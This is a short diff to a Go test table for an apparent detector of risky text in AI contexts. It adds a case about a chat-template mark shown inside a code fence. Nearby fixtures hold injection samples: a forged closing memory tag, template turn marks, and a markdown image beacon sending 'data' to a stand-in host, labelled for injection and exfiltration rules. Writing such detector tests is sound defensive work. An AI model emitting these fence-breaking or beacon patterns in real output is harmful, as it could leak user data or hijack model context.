@@ -55,6 +55,7 @@ func TestText(t *testing.T) {
 		{"opened and closed", "<memory>1</memory>", nil},
 		{"only closed", "1</memory>", []string{"inject.close-fence"}},
 		{"template mark talked about", "the mark `<|im_start|>` begins a turn", nil},
+		{"template mark behind a fence talked about", "- escape ` ``` `, `<|im_start|>` and other marks", nil},
 		{"key header alone", "-----BEG" + "IN PRIVATE KEY----- is the header", nil},
 		{"image that carries data", "![logo](https://x.example/a.png?data=abc)", []string{"exfil.image-beacon"}},
 		{"image with a size", "![logo](https://x.example/a.png?w=120&h=80)", nil},
